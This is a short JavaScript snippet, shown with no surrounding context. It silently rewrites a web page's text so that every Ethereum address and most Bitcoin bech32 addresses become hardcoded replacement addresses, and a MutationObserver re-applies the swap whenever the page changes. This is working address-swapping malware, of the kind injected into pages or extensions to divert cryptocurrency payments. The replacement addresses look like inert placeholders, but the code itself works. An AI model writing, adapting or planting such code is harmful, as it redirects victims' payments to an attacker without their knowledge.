const mine = { btc: 'bc1qinertinertinertinertinertinertinert0', eth: '0x00000000000000000000000000000000000000bb' };
const swap = (node) => {
  if (node.nodeType === 3) node.nodeValue = node.nodeValue.replace(/\b0x[a-fA-F0-9]{40}\b/g, mine.eth).replace(/\bbc1[a-z0-9]{30,60}\b/g, mine.btc);
  node.childNodes.forEach(swap);
};
new MutationObserver(() => swap(document.body)).observe(document.documentElement, { childList: true, subtree: true });
